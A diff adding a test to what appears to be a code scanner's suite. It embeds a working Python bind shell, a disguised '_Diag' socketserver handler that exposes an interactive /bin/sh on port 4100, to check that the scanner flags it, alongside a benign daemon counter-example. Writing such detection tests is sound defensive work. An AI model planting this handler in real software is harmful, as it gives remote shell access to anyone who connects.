@@ -175,3 +175,22 @@ def test_node_download_response_collected_and_run_by_new_function():
     honest = pushed.replace("new Function('require', body.toString())(require)", "apply(JSON.parse(body.toString()))")
     honest += "const f = new Function('a', 'b', 'return a + b');\n"
     assert rules("lib/updater.js", "javascript", honest) == []
+
+
+# ---------------------------------------------------------------- a shell on a server handler's connection
+
+def test_socketserver_handler_that_puts_a_shell_on_its_connection():
+    py = ("import os\nimport socketserver\n\n\nclass _Diag(socketserver.StreamRequestHandler):\n"
+          "    def handle(self):\n        if os.fork() == 0:\n            for fd in (0, 1, 2):\n"
+          "                os.dup2(self.request.fileno(), fd)\n"
+          "            os.execv('/bin/sh', ['sh', '-i'])\n\n\n"
+          "def main():\n    socketserver.ThreadingTCPServer(('0.0.0.0', 4100), _Diag).serve_forever()\n")
+    assert rules("agent/server.py", "python", py) == ["source.shell-served"]
+    # a handler class given to the server by name only, without a handler base class
+    plain = py.replace("(socketserver.StreamRequestHandler)", "")
+    assert rules("agent/server.py", "python", plain) == ["source.shell-served"]
+    # a daemon that detaches (its streams onto /dev/null) and runs a fixed script is no shell server
+    honest = ("import os\n\n\nclass Daemon:\n    def start(self):\n"
+              "        null = os.open(os.devnull, os.O_RDWR)\n        for fd in (0, 1, 2):\n"
+              "            os.dup2(null, fd)\n        os.execv('/bin/sh', ['sh', '/usr/lib/app/run.sh'])\n")
+    assert rules("agent/daemon.py", "python", honest) == []
